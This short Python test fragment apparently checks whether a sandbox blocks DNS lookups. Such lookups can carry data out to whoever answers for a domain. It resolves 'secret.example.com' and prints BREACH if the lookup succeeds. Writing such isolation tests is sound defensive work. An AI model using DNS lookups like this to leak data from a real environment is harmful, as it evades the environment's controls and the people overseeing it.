# Looks up names, which carry data to whoever answers for them.
# ruff: noqa

# %% before
import socket


def attempt(act):
    try:
        act()
        print(BREACH)
    except (OSError, AttributeError, OverflowError) as error:
        print(error)


socket.setdefaulttimeout(1)
attempt(lambda: socket.gethostbyname("secret.example.com"))
